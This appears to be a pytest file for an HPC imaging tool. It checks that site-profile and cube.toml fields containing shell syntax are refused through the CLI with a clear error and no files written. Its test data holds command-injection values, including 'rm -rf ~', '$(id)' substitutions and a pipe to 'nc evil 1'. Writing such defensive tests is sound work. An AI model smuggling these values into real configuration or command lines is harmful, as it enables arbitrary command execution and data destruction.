"""Values that reach job scripts or command lines: shell syntax is refused through the real CLI, naming
the field, exit status 2, no traceback, nothing written."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from conftest import run_cli

from hpc_imager.inputs import shell_safety
from hpc_imager.inputs.site_profile import SiteError, parse_site

CI_SLURM = (Path(__file__).with_name("sites") / "ci-slurm.toml").read_text()

# One hostile value per field of the site profile that reaches a job script or a command line; between
# them they try every kind of shell syntax the issue names.
SITE_FIELDS = {
    "name": 'name = "ci; touch pwned"',
    "queue": 'queue = "debug\\nrm -rf ~"',
    "account": 'account = "astro`id`"',
    "job_directives": 'job_directives = ["--comment=$(id)"]',
    "prologue": 'prologue = ["module load casa\\necho pwned"]',
    "python": 'python = "/usr/bin/python && id"',
    "interface": 'interface = "ib0 | nc evil 1"',
    "local_scratch": 'local_scratch = "/scratch/$(whoami)"',
    "shared_directory": 'shared_directory = "/lustre > /tmp/x"',
    "casa_data": 'casa_data = "/data/casa;id"',
    "sge_parallel_environment": 'sge_parallel_environment = "smp\\r"',
}

# The same for cube.toml (its paths become absolute, under this test's directory, before they are checked).
CUBE_FIELDS = {
    "tclean.imagename": '[tclean]\nvis = "x.ms"\nimagename = "cube;id"\n',
    "tclean.vis": '[tclean]\nvis = "x.ms`id`"\nimagename = "cube"\n',
    "tclean.vis (a list)": '[tclean]\nvis = ["x.ms", "y.ms\\nid"]\nimagename = "cube"\n',
    "run.directory": '[tclean]\nvis = "x.ms"\nimagename = "cube"\n[run]\ndirectory = "run > /tmp/x"\n',
    "run.directory (substitution)": '[tclean]\nvis = "x.ms"\nimagename = "cube"\n[run]\ndirectory = "$(id)"\n',
}
VALID_CUBE = '[tclean]\nvis = "x.ms"\nimagename = "cube"\n'


def site_with(*lines: str) -> str:
    """ci-slurm.toml with these fields replaced (or added)."""
    keys = {line.split("=", 1)[0].strip() for line in lines}
    kept = [l for l in CI_SLURM.splitlines() if l.split("=", 1)[0].strip() not in keys]
    return "\n".join(list(lines) + kept) + "\n"


def snapshot(directory: Path) -> dict:
    return {str(p): p.stat().st_mtime_ns for p in directory.rglob("*")}


def assert_refused(result, field: str, before: dict, directory: Path) -> None:
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("hpc_imager: error: "), result.stderr
    assert field in lines[0], lines[0]
    assert snapshot(directory) == before, "nothing may be written"


@pytest.mark.parametrize("command", ["sites validate", "plan", "submit"])
@pytest.mark.parametrize("field", SITE_FIELDS)
def test_shell_syntax_in_a_site_field_is_refused(tmp_path, field, command):
    site = tmp_path / "hostile.toml"
    site.write_text(site_with(SITE_FIELDS[field]))
    cube = tmp_path / "cube.toml"
    cube.write_text(VALID_CUBE)
    before = snapshot(tmp_path)
    args = ["sites", "validate", site] if command == "sites validate" else [command, "--site", site, cube]
    result = run_cli(*args, cwd=tmp_path, check=False)
    assert_refused(result, f": {field}: contains", before, tmp_path)


@pytest.mark.parametrize("command", ["plan", "submit"])
@pytest.mark.parametrize("field", CUBE_FIELDS)
def test_shell_syntax_in_a_cube_path_is_refused(tmp_path, field, command):
    cube = tmp_path / "cube.toml"
    cube.write_text(CUBE_FIELDS[field])
    before = snapshot(tmp_path)
    result = run_cli(command, "--site", "local", cube, cwd=tmp_path, check=False)
    assert_refused(result, f"{field.split(' ')[0]}: contains", before, tmp_path)


def test_a_cube_in_a_directory_with_a_space_is_refused_naming_the_path(tmp_path):
    """The run directory is written unquoted into the workers' log directives (#SBATCH -e DIR/...)."""
    folder = tmp_path / "my data"
    folder.mkdir()
    (folder / "cube.toml").write_text(VALID_CUBE)
    result = run_cli("plan", "--site", "local", folder / "cube.toml", check=False)
    assert result.returncode == 2 and "tclean.vis: contains a space" in result.stderr, result.stderr


def test_shipped_and_ordinary_values_stay_valid():
    """What real profiles hold: variables in scratch paths, Slurm constraint syntax, shell in the prologue."""
    profile = parse_site(site_with('job_directives = ["--constraint=[ib&haswell|skylake]", "--qos=normal"]',
                                   'prologue = ["module load casa/6.7; export OMP_NUM_THREADS=1", "source $HOME/env.sh || true"]',
                                   'local_scratch = "/lustre/scratch/${USER}/dask"', 'queue = "debug,batch"',
                                   'account = "proj-12.a"', 'python = "/opt/venv-3.11/bin/python"', 'interface = "ib0"'),
                         "ok", "ok.toml")
    assert profile.prologue[0].startswith("module load casa/6.7;")
    assert profile.local_scratch == "/lustre/scratch/${USER}/dask"


@pytest.mark.parametrize("value, refused", [
    ("a\nb", "a newline"), ("a\rb", "a carriage return"), ("a\x00b", "a NUL character"),
    ("a;b", "';'"), ("a`b`", "a backtick"), ("$(id)", "command substitution"), ("a&&b", "'&'"),
    ("a|b", "'|'"), ("a>b", "'>'"), ("a<b", "'<'"), ("a b", "a space"), ("a'b", '"\'"'), ('a"b', "'\"'"),
    ("a*", "'*'"), ("$HOME", "'$'"),
])
def test_path_rule(value, refused):
    with pytest.raises(ValueError, match=re.escape(refused)):
        shell_safety.path(value)


def test_variables_only_where_a_job_shell_expands_them():
    assert shell_safety.path("$TMPDIR/dask", variables=True) == "$TMPDIR/dask"
    with pytest.raises(ValueError, match="command substitution"):
        shell_safety.path("$(id)/dask", variables=True)
    with pytest.raises(ValueError):
        shell_safety.path("${HOME", variables=True)


@pytest.mark.parametrize("address", ["0.0.0.0:8787; id", "localhost", "127.0.0.1:$(id)", "[::]:80\n"])
def test_dashboard_address_is_host_and_port(address):
    with pytest.raises(SiteError, match="dashboard_address: "):
        parse_site(site_with(f"dashboard_address = {json.dumps(address)}"), "x", "x.toml")
    assert parse_site(site_with('dashboard_address = ":8787"'), "x", "x.toml").dashboard_address == ":8787"
